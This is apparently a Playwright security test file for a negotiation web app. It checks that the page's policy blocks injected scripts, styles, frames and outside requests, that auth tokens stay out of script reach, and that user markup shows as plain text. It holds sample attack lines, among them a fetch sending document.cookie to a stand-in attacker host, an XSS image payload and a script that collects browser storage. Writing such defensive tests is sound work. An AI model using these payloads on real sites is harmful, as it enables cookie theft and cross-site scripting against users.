"""What a browser is kept from: code and styles from elsewhere, markup, tokens for scripts."""

from __future__ import annotations

from typing import Any

import pytest
from playwright.sync_api import WebSocket, expect

from tests.browser.desk import BREACH, Desk, Tab, heard
from tests.browser.test_list import card

ATTACKS = {
    "a style element": "document.head.append(Object.assign(document.createElement('style'),"
    " { textContent: 'body { color: red }' }))",
    "a style attribute": "document.body.setAttribute('style', 'color: red')",
    "markup from a text": "document.body.innerHTML = '<b>text</b>'",
    "a script from a text": "document.body.append(Object.assign(document.createElement('script'),"
    " { textContent: 'window.hacked = true' }))",
    "a script from a text's address": "document.body.append(Object.assign("
    "document.createElement('script'), { src: '/assets/any.js' }))",
    "a text run as code": "setTimeout('window.hacked = true')",
    "a request elsewhere": "fetch('https://evil.example/?' + document.cookie)",
    "a picture elsewhere": "new Image().src = 'https://evil.example/'",
    "a picture of data": "new Image().src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw='",
    "a frame": "document.body.append(Object.assign(document.createElement('iframe'),"
    " { src: 'https://evil.example/' }))",
    "a form sent elsewhere": "Object.assign(document.body.appendChild("
    "document.createElement('form')), { action: 'https://evil.example/' }).submit()",
    "another policy for texts": "trustedTypes.createPolicy('mine', {})",
}
"""As if what came with a message had got as far as a script of the page."""
MARKUP = '<img src=x onerror="window.hacked=1"><b>bold</b><style>*{color:red}</style>'
STORED = """async () => {
  const found = [document.cookie, JSON.stringify({ ...localStorage, ...sessionStorage })];
  for (const { name } of await indexedDB.databases()) {
    const database = await new Promise((done) => {
      const opening = indexedDB.open(name);
      opening.onsuccess = () => done(opening.result);
    });
    for (const store of database.objectStoreNames) {
      const all = database.transaction(store).objectStore(store).getAll();
      found.push(JSON.stringify(await new Promise((done) => {
        all.onsuccess = () => done(all.result);
      })));
    }
    database.close();
  }
  for (const name of await caches.keys()) {
    const cache = await caches.open(name);
    for (const request of await cache.keys()) found.push(request.url);
  }
  return found;
}"""


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_policy_stops_it(desk: Desk, attack: str) -> None:
    tab = desk.tab("/negotiations")
    tab.page.locator("main h1").wait_for()
    tab.page.evaluate(f"() => {{ try {{ {ATTACKS[attack]} }} catch {{}} }}")
    heard(tab.page, lambda: desk.complaints, "a breach")
    assert any(BREACH in told for told in desk.complaints)
    assert tab.page.evaluate("window.hacked") is None
    desk.complaints.clear()


def test_no_script_can_reach_a_token(desk: Desk) -> None:
    told: list[str] = []
    page = desk.context.new_page()

    def listen(socket: WebSocket) -> None:
        told.append(socket.url)
        for event in ("framesent", "framereceived"):
            socket.on(event, lambda frame: told.append(str(frame)))

    page.on("websocket", listen)
    page.on("request", lambda request: told.append(f"{request.url} {request.post_data}"))
    negotiation = desk.negotiate()
    page.goto(f"/negotiations/{negotiation}")
    tab = Tab(page)
    tab.advice(1).wait_for()
    tab.ask("Is it fair?")
    tab.advice(2).wait_for()
    told += page.evaluate(STORED)
    cookies: list[Any] = list(desk.context.cookies())
    tokens = {
        cookie["name"]: cookie for cookie in cookies if not cookie["name"].startswith("csrf_")
    }
    assert set(tokens) == {"access_token", "refresh_token"}
    assert all(cookie["httpOnly"] for cookie in tokens.values())
    assert negotiation in " ".join(told)
    assert any("socket.io" in text for text in told)
    for cookie in tokens.values():
        assert not [text for text in told if cookie["value"] in text]


def test_texts_of_anybody_are_texts(desk: Desk) -> None:
    vehicle = {"year": 2019, "make": "<b>Toyota</b>", "model": "<i>Camry</i>", "trim": MARKUP[:40]}
    negotiation = desk.negotiate(vehicle=vehicle, label="<u>Uptown</u>")
    desk.post(negotiation, "chat", content=MARKUP)
    desk.post(negotiation, "dealer-messages", content=f"$23,000 {MARKUP}", channel="email")
    desk.post(negotiation, "offers", amount="18000", party="buyer", note=MARKUP)
    desk.wait_at_rest(negotiation, 4)
    tab = desk.talk(negotiation)
    expect(tab.bubbles.filter(has_text=MARKUP)).to_have_count(3)
    expect(tab.page.get_by_role("heading", level=1)).to_have_text("2019 <b>Toyota</b> <i>Camry</i>")
    made = "main img[src=x], main b, main i:not(:empty), main u, main style, header b"
    assert tab.page.locator(made).count() == 0
    tab.page.goto("/negotiations")
    expect(card(tab, "Camry")).to_contain_text("<u>Uptown</u>")
    assert tab.page.locator(made).count() == 0
    assert tab.page.evaluate("window.hacked") is None
